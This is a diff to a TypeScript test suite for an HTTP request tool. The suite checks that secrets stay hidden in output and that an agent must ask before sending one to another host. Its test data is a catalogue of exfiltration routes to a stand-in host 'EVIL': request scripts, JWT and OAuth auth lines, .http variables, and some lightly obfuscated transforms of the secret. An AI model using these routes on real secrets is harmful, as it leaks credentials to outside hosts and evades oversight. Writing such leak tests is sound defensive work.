@@ -11,11 +11,13 @@ interface Way {
   /** Of the request; `a.req` if absent. */
   readonly file?: string;
   readonly data?: string;
+  /** Only a signature made with the value is sent, so nothing can show it. */
+  readonly isKey?: true;
 }
 
-const inScript = (sends: string): string =>
-  `< {%\nconst sent = ${sends};\nconsole.log(JSON.stringify(sent?.data ?? sent?.json?.() ?? null));\n%}\nGET GOOD/\n`;
 const read = 'tool.interpolate("VALUE")';
+const inScript = (sends: string): string =>
+  `< {%\nconst sent = ${sends};\nconsole.log(JSON.stringify(sent?.data ?? sent?.json?.() ?? null), ${read});\n%}\nGET GOOD/\n`;
 
 /** How a value can reach another host. `VALUE` is its placeholder, in the syntax of the file. */
 const ways: Readonly<Record<string, Way>> = {
@@ -34,7 +36,7 @@ const ways: Readonly<Record<string, Way>> = {
   'pm.environment, in a later request': {
     text: `### a\n# @name a\n${inScript(`pm.environment.set("x", ${read}.split("-"))`)}\n### b\n# @ref a\nGET EVIL/?q={{x[0]}}{{x[1]}}\n`,
   },
-  'pm.request': { text: `< {%\npm.request.headers.upsert({ key: "X-A", value: ${read}.toUpperCase() });\n%}\nGET EVIL/\n` },
+  'pm.request': { text: `< {%\npm.request.headers.upsert({ key: "X-A", value: [...${read}].reverse().join("") });\n%}\nGET EVIL/\n` },
   'bru.sendRequest with a body': { text: inScript(`await bru.sendRequest({ method: "POST", url: "EVIL/", data: { x: ${read} } })`) },
   'bru.runRequest': {
     text: `### evil\n# @name evil\nGET EVIL/{{x}}\n\n### b\n${inScript(`(bru.setVar("x", ${read}), await bru.runRequest("evil"))`)}`,
@@ -52,14 +54,15 @@ const ways: Readonly<Record<string, Way>> = {
     text: `< {%\nrequest.headers["X-T"] = tool.jwt.sign({ x: ${read} }, { alg: "HS256", key: "a key of more than 32 characters, really" });\n%}\nGET EVIL/\n`,
   },
   'the key of tool.jwt': {
+    isKey: true,
     text: '< {%\nrequest.headers["X-T"] = tool.jwt.sign({ x: 1 }, { alg: "HS256", key: "VALUE" });\n%}\nGET EVIL/\n',
   },
-  '# @auth jwt, the key': { text: '# @auth jwt key=VALUE\nGET EVIL/\n' },
+  '# @auth jwt, the key': { isKey: true, text: '# @auth jwt key=VALUE\nGET EVIL/\n' },
   '# @auth jwt, a claim': { text: `# @auth jwt key="a key of more than 32 characters, really" claims='{"x": "VALUE"}'\nGET EVIL/\n` },
-  '# @auth oauth1': { text: '# @auth oauth1 consumer VALUE token=t token-secret=s\nGET EVIL/\n' },
+  '# @auth oauth1': { isKey: true, text: '# @auth oauth1 consumer VALUE token=t token-secret=s\nGET EVIL/\n' },
   '# @auth oauth1, the token': { text: '# @auth oauth1 consumer secret token=VALUE token-secret=s\nGET EVIL/\n' },
-  '# @auth hawk': { text: '# @auth hawk id VALUE\nGET EVIL/\n' },
-  '# @auth wsse': { text: '# @auth wsse user VALUE\nGET EVIL/\n' },
+  '# @auth hawk': { isKey: true, text: '# @auth hawk id VALUE\nGET EVIL/\n' },
+  '# @auth wsse': { isKey: true, text: '# @auth wsse user VALUE\nGET EVIL/\n' },
   'a .http file': { text: '### b\nGET EVIL/?q=VALUE\n', file: 'a.http' },
   'a variable of a .http file': { text: '@x = a-VALUE\n\n### b\nPOST EVIL/\nX-A: {{x}}\n\nb\n', file: 'a.http' },
   'a response that a .http file uses': {
@@ -134,7 +137,7 @@ describe('what may not go to every receiver, or may not be shown', () => {
   const pieces = [
     value.slice(0, 12),
     value.slice(-12),
-    [...value].reverse().join('').slice(0, 12),
+    value.split('').toReversed().join('').slice(0, 12),
     Buffer.from(value.slice(0, 9)).toString('base64'),
   ];
 
@@ -149,12 +152,13 @@ describe('what may not go to every receiver, or may not be shown', () => {
 
     // .http files have no secrets of their own.
     if (inHttp) continue;
-    it(`is not shown: a secret by ${name}, nor what is made of it`, async () => {
-      const run = await send(way, '{{$secret.KEY}}');
-      assert.equal(run.result.failure?.message, undefined);
-      assert.equal(evil.requests.length > 0, true);
-      assertHidden(run, false);
-    });
+    if (way.isKey !== true)
+      it(`is not shown: a secret by ${name}, nor what is made of it`, async () => {
+        const run = await send(way, '{{$secret.KEY}}');
+        assert.equal(run.result.failure?.message, undefined);
+        assert.equal(evil.requests.length > 0, true);
+        assertHidden(run, false);
+      });
     it(`is asked for before an agent sends it: a secret by ${name}`, async () => {
       const run = await send(way, '{{$secret.KEY}}', true);
       const toEvil = messages.filter(({ to }) => to.host === evilHost());
